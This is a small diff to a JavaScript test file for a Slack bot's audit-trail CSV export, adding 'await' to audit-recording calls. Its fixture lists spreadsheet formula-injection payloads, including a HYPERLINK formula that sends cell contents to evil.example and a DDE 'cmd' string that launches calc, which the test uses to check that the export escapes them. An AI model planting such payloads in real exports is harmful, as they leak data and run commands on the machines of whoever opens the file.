@@ -76,7 +76,7 @@ describe('audit trail: /coach audit and its CSV', () => {
     // Rows can come from outside Slack's ids (an operator's `npm run report -- --manager`, a restored backup):
     // the CSV must not trust that no cell starts with = + - @ tab or CR.
     const cells = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', '+1+cmd|\' /C calc\'!A0', '@SUM(1)', '-2+3', '\tTAB', '\rCR'];
-    for (const c of cells) h.leadwell.slack.deps.audit.record('report.exported', c, c, { via: 'cli' });
+    for (const c of cells) await h.leadwell.slack.deps.audit.record('report.exported', c, c, { via: 'cli' });
     const before = h.emulator.files().length;
     await ask(h.people.admin, 'audit export');
     const file = await h.emulator.waitFor(() => h.emulator.files().slice(before).find((f) => f.completed));
@@ -88,7 +88,7 @@ describe('audit trail: /coach audit and its CSV', () => {
 
   it('pages: the second page holds the older entries', async () => {
     for (let i = 0; i < AUDIT_PAGE_SIZE + 3; i += 1) {
-      h.leadwell.slack.deps.audit.record('settings.changed', h.people.admin, undefined, { i });
+      await h.leadwell.slack.deps.audit.record('settings.changed', h.people.admin, undefined, { i });
       h.clock.advance(1000);
     }
     const first = await ask(h.people.admin, 'audit');
